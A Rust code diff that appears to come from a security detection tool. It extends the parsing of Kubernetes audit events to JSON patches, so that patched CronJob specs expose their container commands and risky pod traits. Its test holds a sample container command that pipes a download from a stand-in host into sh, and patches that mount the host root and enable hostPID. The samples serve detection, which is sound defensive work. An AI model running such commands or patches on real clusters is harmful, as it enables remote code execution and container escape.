@@ -281,10 +281,58 @@ const MOST_DEPTH: usize = 24;
 fn specification(object: &[u8], commands: &mut Commands, jobs: &mut Jobs) {
     let mut cursor = Cursor::new(object);
     let mut path = Path::default();
-    if matches!(cursor.value(), Ok(Value::Object)) {
-        let _ = walk(&mut cursor, &mut path, commands, jobs);
-        container(&mut path, commands, jobs);
+    let read = match cursor.value() {
+        Ok(Value::Object) => walk(&mut cursor, &mut path, commands, jobs),
+        Ok(Value::Array) => patches(&mut cursor, &mut path, commands, jobs),
+        _ => return,
+    };
+    // What is cut says what stands before the cut.
+    let _ = read;
+    container(&mut path, commands, jobs);
+}
+
+/// Reads a JSON patch: a list of operations, each of which has the path of a
+/// member and what that becomes.
+fn patches(
+    cursor: &mut Cursor<'_>,
+    path: &mut Path,
+    commands: &mut Commands,
+    jobs: &mut Jobs,
+) -> Result<(), crate::record::RecordError> {
+    while cursor.element()? {
+        match cursor.value()? {
+            Value::Object => {}
+            list @ Value::Array => {
+                cursor.close(list)?;
+                continue;
+            }
+            _ => continue,
+        }
+        let (mut name, mut value) = (&b""[..], None);
+        while let Some(member) = cursor.member()? {
+            if member == b"value" {
+                value = Some(cursor.clone());
+            }
+            match cursor.value()? {
+                Value::String(inside) if member == b"path" => {
+                    let mut steps = inside.rsplit(|byte| *byte == b'/');
+                    let is_place = |step: &&[u8]| {
+                        *step == b"-" || step.iter().all(u8::is_ascii_digit)
+                    };
+                    name =
+                        steps.find(|step| !is_place(step)).unwrap_or_default();
+                }
+                opened @ (Value::Object | Value::Array) => {
+                    cursor.close(opened)?;
+                }
+                _ => {}
+            }
+        }
+        if let Some(mut value) = value {
+            put(name, &mut value, path, commands, jobs)?;
+        }
     }
+    Ok(())
 }
 
 /// What is known while a specification is walked.
@@ -304,34 +352,46 @@ fn walk(
 ) -> Result<(), crate::record::RecordError> {
     path.depth = path.depth.saturating_add(1);
     while let Some(name) = cursor.member()? {
-        match cursor.value()? {
-            Value::Object if path.depth < MOST_DEPTH => {
-                if name == b"hostPath" {
-                    jobs.say(Field::JobTrait, Trait::PodHostPath.name());
-                }
-                walk(cursor, path, commands, jobs)?;
+        put(name, cursor, path, commands, jobs)?;
+    }
+    path.depth = path.depth.saturating_sub(1);
+    Ok(())
+}
+
+/// What a member of a specification says, whose value comes next.
+fn put(
+    name: &[u8],
+    cursor: &mut Cursor<'_>,
+    path: &mut Path,
+    commands: &mut Commands,
+    jobs: &mut Jobs,
+) -> Result<(), crate::record::RecordError> {
+    match cursor.value()? {
+        Value::Object if path.depth < MOST_DEPTH => {
+            if name == b"hostPath" {
+                jobs.say(Field::JobTrait, Trait::PodHostPath.name());
             }
-            Value::Array if matches!(name, b"command" | b"args") => {
-                words(cursor, path, commands)?;
-            }
-            Value::Array if path.depth < MOST_DEPTH => {
-                while cursor.element()? {
-                    let value = cursor.value()?;
-                    if value == Value::Array {
-                        cursor.close(value)?;
-                    } else if value == Value::Object {
-                        walk(cursor, path, commands, jobs)?;
-                        if matches!(name, b"containers" | b"initContainers") {
-                            container(path, commands, jobs);
-                        }
+            walk(cursor, path, commands, jobs)?;
+        }
+        Value::Array if matches!(name, b"command" | b"args") => {
+            words(cursor, path, commands)?;
+        }
+        Value::Array if path.depth < MOST_DEPTH => {
+            while cursor.element()? {
+                let value = cursor.value()?;
+                if value == Value::Array {
+                    cursor.close(value)?;
+                } else if value == Value::Object {
+                    walk(cursor, path, commands, jobs)?;
+                    if matches!(name, b"containers" | b"initContainers") {
+                        container(path, commands, jobs);
                     }
                 }
             }
-            opened @ (Value::Object | Value::Array) => cursor.close(opened)?,
-            value => member(name, value, path, commands, jobs),
         }
+        opened @ (Value::Object | Value::Array) => cursor.close(opened)?,
+        value => member(name, value, path, commands, jobs),
     }
-    path.depth = path.depth.saturating_sub(1);
     Ok(())
 }
 
@@ -431,4 +491,50 @@ fn container(path: &mut Path, commands: &mut Commands, jobs: &mut Jobs) {
     let Some(line) = words.or(image) else { return };
     let outer = Command::nowhere(Origin::outermost(System::Unix));
     action::push_shell(commands, line, outer, jobs);
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::derive::job::event::read;
+    use crate::event::KubernetesApiCall;
+
+    fn patched(object: &str) -> String {
+        let mut commands = Commands::default();
+        let mut jobs = Jobs::default();
+        let event = Event::kubernetes(KubernetesApiCall {
+            verb: Some(b"patch"),
+            object_ref_resource: Some(b"cronjobs"),
+            object_ref_namespace: Some(b"ns"),
+            object_ref_name: Some(b"j"),
+            request_object: Some(object.as_bytes()),
+            ..Default::default()
+        });
+        read(&event, &mut commands, &mut jobs);
+        assert_eq!(jobs.len(), 1);
+        jobs.shown(0, &commands.arena)
+    }
+
+    #[test]
+    fn patches_say_what_the_object_would() {
+        const POD: &str = "/spec/jobTemplate/spec/template/spec";
+        let merged = patched(
+            r#"{"spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"containers":[{"command":["/bin/sh","-c","curl http://x.example/a | sh"]}]}}}}}}"#,
+        );
+        assert!(merged.contains("Command=curl"), "{merged}");
+        let whole = format!(
+            r#"[{{"op":"test","path":"/spec/suspend","value":[[]]}},7,{{"op":"replace","path":"/spec/schedule","value":"* * * * *"}},{{"path":"{POD}/containers/0/command","value":["/bin/sh","-c","curl http://x.example/a | sh"],"op":"replace"}}]"#
+        );
+        assert_eq!(patched(&whole), merged);
+        let added = format!(
+            r#"[{{"op":"add","path":"{POD}/volumes/-","value":{{"hostPath":{{"path":"/"}}}}}},{{"op":"add","path":"{POD}/hostPID","value":true}}]"#
+        );
+        let found = patched(&added);
+        for told in ["Trait=pod_host_path", "Trait=pod_host_namespace"] {
+            assert!(found.contains(told), "{found}");
+        }
+        for nothing in ["[", "[{\"op\":\"remove\"}]", "[[[]],{}]", "7", ""] {
+            assert!(!patched(nothing).contains("Command"), "{nothing}");
+        }
+    }
 }
